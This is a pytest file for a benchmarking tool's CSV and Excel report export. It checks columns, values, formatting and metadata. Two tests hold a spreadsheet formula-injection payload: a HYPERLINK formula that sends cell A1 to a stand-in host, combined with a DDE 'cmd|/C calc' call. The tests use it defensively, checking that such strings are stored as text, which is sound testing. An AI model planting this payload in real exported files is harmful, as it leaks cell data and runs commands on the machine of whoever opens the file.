"""splits.csv, splits.xlsx and the PNG plots, read back from the files actually written."""

from __future__ import annotations

import dataclasses
import json
import math
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from cli_helpers import FAST, run_cli
from split_table_data import NETWORKS, OUTPUT_BYTES, SETTINGS, SHA, SLOW, UNRESOLVED, N, fill
from splitbench.measure.types import PartMeasurement, RunSettings
from splitbench.report.export import (
    REQUIRED_CSV_COLUMNS,
    metadata_from_db,
    write_csv,
    write_xlsx,
)
from splitbench.report.split_table import build_split_table
from splitbench.results import ResultsDB
from splitbench.targets.base import TargetInfo

SERVER_INFO = TargetInfo("host", "host", "AMD EPYC", 2, "ai-edge-litert 2.3.0")


@pytest.fixture()
def table(tmp_path: Path) -> pd.DataFrame:
    filled = fill(tmp_path / "results.sqlite")
    return build_split_table(filled.db, SHA, "adb:phone", "host", NETWORKS, OUTPUT_BYTES, N)


def test_csv_has_the_public_columns_and_values(table: pd.DataFrame, tmp_path: Path) -> None:
    path = write_csv(table, tmp_path / "out" / "splits.csv")
    back = pd.read_csv(path)
    for column in (*REQUIRED_CSV_COLUMNS, "e2e_ms_slow", "e2e_ms_fast-lan"):
        assert column in back.columns, column
    assert list(back.columns) == list(table.columns)
    assert list(back.split) == [0, 1, 2, 3]
    assert back.loc[1, "client_ms"] == pytest.approx(13.0)
    assert json.loads(back.loc[1, "cut_tensors"]) == ["conv1", "skip"]
    assert back.loc[0, "e2e_ms_slow"] == pytest.approx(78.4)
    assert math.isnan(back.loc[2, "client_ms"])  # written empty, not 0
    assert back.loc[2, "client_error"] == UNRESOLVED
    assert path.read_text().splitlines()[3].startswith('2,2,1,"[""conv2""]",,4.0,')


def test_csv_refuses_a_table_without_public_columns(table: pd.DataFrame, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="max_abs_diff"):
        write_csv(table.drop(columns=["max_abs_diff"]), tmp_path / "x.csv")
    no_networks = table.drop(columns=[c for c in table.columns if c.startswith("e2e_ms_")])
    with pytest.raises(ValueError, match="e2e_ms_"):
        write_csv(no_networks, tmp_path / "y.csv")


def test_xlsx_scenario_layout_read_back(table: pd.DataFrame, tmp_path: Path) -> None:
    meta = {
        "model": {"name": "three-op", "sha256": SHA},
        "client": {"name": "adb:phone", "cpu_model": "Cortex-A53"},
        "settings": RunSettings(threads=2),
        "versions": ["ai-edge-litert 2.3.0", "benchmark_model 2.16"],
    }
    path = write_xlsx(table, NETWORKS, tmp_path / "splits.xlsx", meta)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Split table", "Metadata", "KPIs per split"]

    ws = wb["Split table"]
    headers = [c.value for c in ws[1]]
    assert headers == [
        "Split point (client:server)",
        "Operators on client",
        "Operators on server",
        "Processing time on client (ms)",
        "Intermediate model size (head, KB)",
        "Intermediate data size (KB)",
        "Processing time on server (ms)",
        "End-to-end latency slow (ms)",
        "End-to-end latency fast-lan (ms)",
        "Lossless",
        "End-to-end 95 % interval slow (ms)",
        "End-to-end 95 % interval fast-lan (ms)",
        "P(best) slow",
        "P(best) fast-lan",
        "Unstable",
    ]
    assert all(c.font.bold for c in ws[1])
    rows = list(ws.iter_rows(min_row=2, max_row=5, values_only=True))
    assert [r[0] for r in rows] == ["0:3", "1:2", "2:1", "3:0"]
    assert rows[1][1:3] == (1, 2)
    assert rows[1][3] == pytest.approx(13.0)
    assert rows[1][4] == pytest.approx(100_000 / 1024)  # head model, KB
    assert rows[1][5] == pytest.approx(4000 / 1024)  # intermediate data, KB
    assert rows[1][6] == pytest.approx(9.0)
    assert rows[0][7] == pytest.approx(78.4)
    assert rows[3][7] == pytest.approx(30.0)
    assert rows[1][9] == "yes"
    lo, hi = table.loc[1, "e2e_lo_ms_slow"], table.loc[1, "e2e_hi_ms_slow"]
    assert rows[1][10] == f"{lo:.2f}–{hi:.2f}" and rows[3][10] is None  # summary only: none
    assert rows[3][12] == table.loc[3, "p_best_slow"] == 1.0
    assert rows[1][14].startswith("head: unstable: the 95 % interval of the median")

    # The failed head: empty time, the reason in a comment.
    failed = ws.cell(row=4, column=4)
    assert failed.value is None
    assert failed.comment is not None and "Convolution2DTransposeBias" in failed.comment.text

    # Best split per configuration highlighted: split 3 for slow; for fast-lan, split 0
    # (21.0 ms) and split 1 (23.0 ms from a head of four samples) are tied within the noise.
    def filled(row: int, col: int, color: str = "FFC6EFCE") -> bool:
        return ws.cell(row=row, column=col).fill.fgColor.rgb == color

    assert [filled(r, 8) for r in range(2, 6)] == [False, False, False, True]
    assert [filled(r, 9) for r in range(2, 6)] == [False] * 4
    assert [filled(r, 9, "FFFFEB9C") for r in range(2, 6)] == [True, True, False, False]
    notes = [ws.cell(row=r, column=1).value for r in range(7, 12)]
    assert "Processing times are the median of each part's samples" in notes[1]
    assert (
        "0:3 and 1:2 are tied for fast-lan within the measurement noise; measure longer"
        in (notes[3])
    )

    meta_ws = wb["Metadata"]
    pairs = {r[0]: r[1] for r in meta_ws.iter_rows(min_row=2, values_only=True) if r[0]}
    assert pairs["model.sha256"] == SHA
    assert pairs["client.cpu_model"] == "Cortex-A53"
    assert pairs["settings.threads"] == 2
    assert pairs["versions"] == "ai-edge-litert 2.3.0, benchmark_model 2.16"
    assert pairs["splitbench_version"]
    network_rows = {r[0]: r for r in meta_ws.iter_rows(values_only=True) if r[0] in ("slow",)}
    assert network_rows["slow"][1:5] == (1.0, 2.0, 50.0, SLOW.source)

    kpis = wb["KPIs per split"]
    assert [c.value for c in kpis[1]] == list(table.columns)
    p90 = kpis.cell(row=3, column=list(table.columns).index("client_p90_ms") + 1)
    assert p90.value == pytest.approx(15.4)  # the exact value, shown to the microsecond
    # Every number is shown by its unit (columns.py), never as a 16-digit float.
    header = {name: i + 1 for i, name in enumerate(table.columns)}
    shown = {
        name: kpis.cell(row=3, column=header[name]).number_format
        for name in ("client_p90_ms", "head_model_ratio", "max_abs_diff")
    }
    assert shown == {"client_p90_ms": "0.000", "head_model_ratio": "0.0000",
                     "max_abs_diff": "0.00E+00"}  # fmt: skip
    floats = [c for row in kpis.iter_rows(min_row=2) for c in row if isinstance(c.value, float)]
    assert floats and all(c.number_format != "General" for c in floats)


def test_metadata_from_db_feeds_the_metadata_sheet(tmp_path: Path) -> None:
    filled = fill(tmp_path / "results.sqlite")
    meta = metadata_from_db(filled.db, SHA, "adb:phone", "host")
    assert meta["model"]["sha256"] == SHA and meta["model"]["num_operators"] == N
    assert meta["client"]["cpu_model"] == "Cortex-A53" and meta["server"]["cores"] == 2
    assert meta["measurements"]["count"] == 6 and meta["measurements"]["failed"] == 1
    assert meta["measurements"]["methods"] == ["litert-interpreter (2.3.0)"]
    assert meta["run_settings"]["runs"] == SETTINGS.num_runs
    assert meta["run_settings"]["rounds"] == 1
    df = build_split_table(filled.db, SHA, "adb:phone", "host", NETWORKS, OUTPUT_BYTES, N)
    wb = openpyxl.load_workbook(write_xlsx(df, NETWORKS, tmp_path / "m.xlsx", meta))
    pairs = {r[0]: r[1] for r in wb["Metadata"].iter_rows(min_row=2, values_only=True) if r[0]}
    assert pairs["client.runtime"] == "benchmark_model 2.16"
    assert pairs["server.cpu_model"] == "Intel Xeon"
    assert pairs["run_settings.runs"] == SETTINGS.num_runs
    assert pairs["measurements.failed"] == 1


def test_metadata_shows_the_settings_as_asked_not_per_bout(tmp_path: Path) -> None:
    """``--runs 54 --min-secs 1 --rounds 6`` gives each bout 9 runs and 1/6 s: the workbook
    shows what the user typed."""
    db = ResultsDB(tmp_path / "r.sqlite")
    db.record_model(sha256=SHA, name="m", path="m.tflite", file_bytes=10, num_operators=N)
    per_bout = RunSettings(
        threads=2, num_runs=9, min_secs=1 / 6, warmup_runs=1, warmup_min_secs=0.5 / 6, max_secs=25.0
    )
    for bout in range(6):
        db.record_measurement(
            SHA,
            None,
            "whole",
            SERVER_INFO,
            PartMeasurement("litert-interpreter", "2.3.0", per_bout, steady_ms=[1.0]),
            rounds=6,
            bout=bout,
        )
    meta = metadata_from_db(db, SHA, "host", "host", output_bytes=130_000)
    asked = meta["run_settings"]
    assert (asked["runs"], asked["min_secs"], asked["rounds"]) == (54, 1.0, 6)
    assert (asked["warmup_runs"], asked["warmup_secs"], asked["threads"]) == (6, 0.5, 2)
    assert asked["max_secs_per_part"] == 150.0
    assert "runs >= 9" in asked["per_bout"]
    # 1 s over 6 bouts, said as a reader says it (not "min 0.166667 s").
    assert "min 0.167 s" in asked["per_bout"] and "0.0833 s" in asked["per_bout"]
    # The model's output size is filled from the run when the database has none.
    assert meta["model"]["output_bytes"] == 130_000


def test_workbook_states_a_repeated_note_once(table: pd.DataFrame, tmp_path: Path) -> None:
    note = "client: no per-operator profile (the host runner cannot profile operators); " * 4
    noted = table.assign(prediction_note=note)
    wb = openpyxl.load_workbook(write_xlsx(noted, NETWORKS, tmp_path / "n.xlsx", {}))
    kpi_headers = [c.value for c in wb["KPIs per split"][1]]
    assert "prediction_note" not in kpi_headers
    values = [v for row in wb["Metadata"].iter_rows(values_only=True) for v in row]
    assert values.count(note) == 1
    assert "notes.prediction_note" in values
    # splits.csv has no such column: run-level notes are said once (run.json, metadata).
    with pytest.raises(ValueError, match="prediction_note"):
        write_csv(noted, tmp_path / "n.csv")


def test_every_column_is_defined_once_and_undefined_ones_are_refused(
    table: pd.DataFrame, tmp_path: Path
) -> None:
    from splitbench.report import columns

    for name in table.columns:
        assert columns.definition(name) is not None, name
    defined = [n for c in columns.COLUMNS for n in c.names]
    assert len(defined) == len(set(defined)), "a column defined twice"
    for name in defined:
        assert sum(c.matches(name) for c in columns.COLUMNS) == 1, name
    with pytest.raises(ValueError, match=r"not defined in splitbench\.report\.columns"):
        write_csv(table.assign(mystery_ms=1.0), tmp_path / "x.csv")


# What a spreadsheet would run if it were stored as a formula (issue 18, item 3).
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"x")+cmd|\' /C calc\'!A0'


def test_workbook_stores_every_user_string_as_text(table: pd.DataFrame, tmp_path: Path) -> None:
    """File and tensor names, serials, network sources, notes and errors that start with "="
    are text in every sheet, never formulas, and read back unchanged."""
    hostile = table.copy()
    hostile["cut_tensors"] = hostile["cut_tensors"].astype(object)
    hostile.loc[0, "cut_tensors"] = FORMULA
    hostile.loc[2, "client_error"] = FORMULA + " error"
    networks = [dataclasses.replace(NETWORKS[0], source=FORMULA + " source"), *NETWORKS[1:]]
    meta = {
        "model": {"name": FORMULA + ".onnx", "path": f"/models/{FORMULA}.onnx", "sha256": SHA},
        "client": {"name": "adb:" + FORMULA, "serial": FORMULA},
        "notes": {"user": FORMULA + " note"},
        FORMULA: "a key too",
        "versions": [FORMULA, "=1+1"],
        "error_code": "#N/A",
    }
    wb = openpyxl.load_workbook(write_xlsx(hostile, networks, tmp_path / "h.xlsx", meta))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    by_value = {c.value: c for c in cells}
    expected = [
        FORMULA,  # cut tensors (KPIs sheet) and a metadata key
        FORMULA + " error",
        FORMULA + " source",
        FORMULA + ".onnx",
        f"/models/{FORMULA}.onnx",
        "adb:" + FORMULA,
        FORMULA + " note",
        f"{FORMULA}, =1+1",
        "#N/A",
    ]
    for value in expected:
        assert value in by_value, value
        assert by_value[value].data_type == "s", value
    kpis = wb["KPIs per split"]
    column = [c.value for c in kpis[1]].index("cut_tensors") + 1
    assert kpis.cell(row=2, column=column).value == FORMULA
    assert kpis.cell(row=2, column=column).data_type == "s"


def test_sweep_of_a_model_named_like_a_formula_writes_text(
    chain_tflite: Path, tmp_path: Path
) -> None:
    """The issue's case through the CLI: the model file's name lands in the Metadata sheet."""
    name = '=HYPERLINK("x","y")+cmd|calc!A0'
    model = tmp_path / f"{name}.tflite"
    model.write_bytes(chain_tflite.read_bytes())
    run_cli("sweep", model, "--out", tmp_path / "run", *FAST).ok()
    wb = openpyxl.load_workbook(tmp_path / "run" / "splits.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    named = {c.value: c.data_type for c in cells if isinstance(c.value, str) and name in c.value}
    assert named[name] == "s" and set(named.values()) == {"s"}  # the name; the path
    assert any(value.endswith(f"/{name}.tflite") for value in named)


def test_the_docs_column_table_is_the_code_definition() -> None:
    from splitbench.report import columns

    page = (Path(__file__).resolve().parents[1] / "docs" / "columns.md").read_text()
    assert columns.markdown_table() in page
